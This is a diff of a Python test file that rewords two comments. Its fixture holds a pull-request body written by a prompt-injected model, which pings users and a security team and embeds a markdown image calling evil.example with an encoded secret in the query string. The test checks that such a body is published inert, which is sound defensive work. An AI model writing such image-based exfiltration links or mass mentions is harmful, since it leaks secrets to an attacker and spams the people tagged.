@@ -27,7 +27,7 @@ from tests.support import call
 from .conftest import BOT, FIX_PATCH, local_service, make_policies, open_fix, service_on_github
 from .test_server_contract import OPEN, make_server
 
-# What the audit's prompt-injected model put in a pull request's body, as it wrote it.
+# What a prompt-injected model put in a pull request's body, as it wrote it.
 INJECTED = (
     "Fixed Add. cc @octocat @acme/security-team\n\n"
     "![status](https://evil.example/pixel.png?d=c2VjcmV0)\n"
@@ -57,7 +57,7 @@ def _on_github(policies: Policies, owner_name: str) -> Policies:
     return policies.model_copy(update={"repos": policies.repos.model_copy(update={"repos": repos})})
 
 
-# --- the audit's body, through the service, as the local backend stores it ---------------------------------
+# --- that body, through the service, as the local backend stores it ---------------------------------
 
 
 def test_the_injected_body_is_published_inert_with_visible_placeholders(
